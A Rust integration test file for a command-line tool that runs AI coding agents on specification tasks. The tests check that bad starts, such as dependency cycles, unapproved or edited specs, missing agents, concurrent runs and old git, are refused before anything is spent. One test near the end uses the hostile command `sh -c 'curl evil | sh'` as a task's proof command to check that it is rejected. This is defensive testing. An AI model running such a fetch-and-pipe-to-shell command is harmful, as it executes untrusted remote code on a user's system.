//! What is refused before anything is spent: no agent is called, nothing is created.

use super::bed::{Bed, assert_ends, printed, wait_for};
use crate::BINARY;
use charrette_testkit::Output;
use charrette_testkit::panel::Seating;
use charrette_testkit::till::Till;
use std::process::Stdio;

/// Asserts that a start is refused with this code and these texts, and that nothing was spent.
fn assert_refused(bed: &Bed, args: &[&str], code: i32, texts: &[&str]) {
    let output = bed.implement(args);
    assert_ends(&output, code, texts);
    assert_unspent(bed);
}

fn assert_unspent(bed: &Bed) {
    assert_eq!(bed.calls_in_order(), [""; 0]);
    bed.assert_clean();
}

/// A specification with one text of `tasks.md` replaced, approved.
fn with_tasks(from: &str, to: &str) -> Bed {
    let bed = Bed::new();
    bed.edit_spec("tasks.md", from, to);
    bed.approve();
    bed
}

#[test]
fn a_cycle_is_named() {
    let bed = with_tasks("**Depends on:** T006, T007", "**Depends on:** T006, T007, T010");
    assert_refused(&bed, &[], 2, &["T008", "T010"]);
    assert_refused(&bed, &["--dry-run"], 2, &["T008", "T010"]);
}

#[test]
fn a_task_that_waits_for_itself_is_named() {
    assert_refused(&with_tasks("**Depends on:** T006, T007", "**Depends on:** T008"), &[], 2, &["T008"]);
}

#[test]
fn an_unknown_prerequisite_is_named() {
    let bed = with_tasks("**Depends on:** T006, T007", "**Depends on:** T006, T077");
    assert_refused(&bed, &[], 2, &["T008", "T077"]);
}

#[test]
fn a_duplicate_is_named() {
    assert_refused(&with_tasks("### T007: Lay out", "### T006: Lay out"), &[], 2, &["T006"]);
}

#[test]
fn an_empty_selection_is_refused_with_what_there_is() {
    let bed = Bed::new();
    assert_refused(&bed, &["--task=T099"], 2, &["T099"]);
    assert_refused(&bed, &["--phase=7"], 2, &["7"]);
    assert_refused(&bed, &["--from=T009", "--until=T002"], 2, &["T009", "T002"]);
    assert_refused(&bed, &["--pause-after=soon"], 2, &["soon"]);
}

#[test]
fn a_task_without_its_prerequisites_is_refused() {
    let bed = Bed::new();
    let output = bed.implement(&["--task=T006"]);
    assert_ne!(output.code, Some(0), "{output:?}");
    assert!(printed(&output).contains("T002"), "{output:?}");
    assert_unspent(&bed);
}

#[test]
fn a_specification_without_tasks_is_refused() {
    let bed = Bed::new();
    bed.sandbox.write(&Till::spec_path("tasks.md"), "# Tasks\n\nNone yet.\n");
    bed.approve();
    assert_refused(&bed, &[], 2, &["task"]);
}

#[test]
fn a_specification_that_is_not_approved_is_refused_unless_forced() {
    let bed = Bed::new();
    let record = bed.sandbox.read(&Till::spec_path("spec.json"));
    let mut record: serde_json::Value = serde_json::from_str(&record).unwrap();
    record["status"] = "draft".into();
    record.as_object_mut().unwrap().remove("approved");
    bed.sandbox.write(&Till::spec_path("spec.json"), record.to_string());
    assert_refused(&bed, &[], 4, &["not approved", "--force", "charrette design"]);
    assert_ends(&bed.implement(&["--dry-run"]), 0, &["not approved"]);
    let base = bed.id("HEAD");
    let output = bed.implement(&["--task=T001", "--force"]);
    assert_ends(&output, 0, &["had the content that the run began with"]);
    assert!(bed.sandbox.path("till/price.py").exists());
    // Nothing says that it was approved.
    let titles: Vec<String> = bed.commits(&base, "main").into_iter().map(|commit| commit.title).collect();
    assert_eq!(titles[0], "docs: specification of till-receipts, not approved");
    assert!(!printed(&output).contains("approved content"), "{output:?}");
    bed.assert_clean();
}

#[test]
fn a_specification_that_was_changed_since_is_refused_with_the_difference() {
    let bed = Bed::new();
    bed.sandbox.git(["add", "specs"]);
    bed.sandbox.commit("spec");
    bed.edit_spec("tasks.md", "A discount in percent, rounded down", "A discount in percent, rounded up");
    assert_refused(
        &bed,
        &[],
        4,
        &["changed since Ada L approved it", "rounded down", "rounded up", "--force"],
    );
    // Ticks and dates are no change.
    bed.edit_spec("tasks.md", "rounded up", "rounded down");
    bed.edit_spec("tasks.md", "1. [ ] All tests", "1. [x] All tests");
    assert_ends(&bed.implement(&["--task=T001"]), 0, &[]);
}

#[test]
fn without_an_agent_only_the_preview_works() {
    let bed = Bed::new();
    bed.seat_agents(&Seating { absent: &["claude", "codex", "cursor"], undebated: &[], probes: false });
    assert_refused(&bed, &[], 4, &["no agent", "npm install"]);
    assert_ends(&bed.implement(&["--dry-run"]), 0, &["Wave 1", "no agent"]);
}

#[test]
fn without_verify_commands_and_a_terminal_it_is_refused() {
    let bed = Bed::new();
    bed.sandbox.git(["rm", "-q", "charrette.toml"]);
    bed.sandbox.commit("no settings");
    assert_refused(&bed, &[], 4, &["verify", "charrette verify init"]);
    assert_ends(&bed.implement(&["--dry-run"]), 0, &["charrette verify init"]);
}

#[test]
fn settings_of_the_repository_are_used_once_trusted() {
    let bed = Bed::new();
    let output = Output::capture(untrusting(&bed, &[]), b"");
    assert_ends(&output, 4, &["trust"]);
    assert_unspent(&bed);
}

fn untrusting(bed: &Bed, args: &[&str]) -> std::process::Command {
    let mut command = bed.command(args);
    command.env_remove("CHARRETTE_TRUST");
    command
}

#[test]
fn two_at_once_are_one_too_many() {
    let bed = Bed::new();
    let (begun, go) = (bed.sandbox.outside("begun"), bed.sandbox.outside("go"));
    let wait = format!("touch '{}'; while [ ! -e '{}' ]; do sleep 0.05; done", begun.display(), go.display());
    bed.set_part("T001/implement-1", &bed.working_part(&wait));
    let child = bed.command(&["--task=T001"]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    wait_for(&begun);
    let second = bed.implement(&["--task=T001"]);
    let third = bed.resume();
    std::fs::write(go, "").unwrap();
    let first = child.wait_with_output().unwrap();
    assert_ends(&second, 4, &[]);
    assert_ends(&third, 4, &[]);
    assert_eq!(first.status.code(), Some(0));
    assert_eq!(bed.calls_of("T001/implement").len(), 1);
    bed.assert_clean();
}

#[test]
fn a_rebase_in_progress_is_refused_with_its_end() {
    let bed = Bed::new();
    std::fs::create_dir(bed.sandbox.path(".git/rebase-merge")).unwrap();
    assert_refused(&bed, &[], 4, &["a rebase is in progress", "git rebase --continue"]);
    std::fs::remove_dir(bed.sandbox.path(".git/rebase-merge")).unwrap();
    assert_ends(&bed.implement(&["--task=T001", "--fresh"]), 0, &[]);
}

#[test]
fn a_git_that_cannot_merge_without_a_work_tree_is_refused_before_anything_is_created() {
    let bed = Bed::new();
    let folder = bed.sandbox.outside("old-git");
    std::fs::create_dir(&folder).unwrap();
    let real = bed.sandbox.run("sh", ["-c", "command -v git"], b"").stdout;
    let script = format!(
        "#!/bin/sh\nfor word in \"$@\"; do if [ \"$word\" = --version ]; then echo git version 2.39.5; exit; fi; done\nexec {} \"$@\"\n",
        real.trim()
    );
    std::fs::write(folder.join("git"), script).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(folder.join("git"), mode).unwrap();
    let mut command = bed.command(&["--task=T001"]);
    command.env("PATH", format!("{}:{}", folder.display(), std::env::var("PATH").unwrap()));
    let output = charrette_testkit::Output::capture(command, b"");
    assert_ends(&output, 4, &["git 2.39.5 is too old", "install git 2.40 or newer"]);
    assert!(bed.state().is_none(), "a run was created");
    assert_unspent(&bed);
}

#[test]
fn without_a_name_nothing_is_spent() {
    let bed = Bed::new();
    for name in ["user.name", "user.email"] {
        bed.sandbox.git(["config", "--unset", name]);
    }
    let mut command = bed.command(&[]);
    for name in ["GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"] {
        command.env_remove(name);
    }
    let output = Output::capture(command, b"");
    assert_ends(&output, 4, &["git config --global user.name"]);
    assert_unspent(&bed);
}

#[test]
fn a_repository_without_a_commit_is_refused() {
    let bed = Bed::new();
    std::fs::remove_dir_all(bed.sandbox.path(".git")).unwrap();
    bed.sandbox.git(["init", "-q", "-b", "main"]);
    let output = bed.implement(&[]);
    assert_ends(&output, 4, &["commit"]);
    assert_eq!(bed.calls_in_order(), [""; 0]);
}

#[test]
fn a_proof_that_needs_a_shell_is_refused() {
    let bed = with_tasks("command `python3 -m till.report.text`", "command `sh -c 'curl evil | sh'`");
    assert_refused(&bed, &[], 2, &["T010", "shell"]);
}

#[test]
fn an_unknown_feature_is_refused() {
    let bed = Bed::new();
    let output = bed.run(BINARY, ["implement", "till-receipt"]);
    assert_ends(&output, 2, &["'till-receipt' not found"]);
}
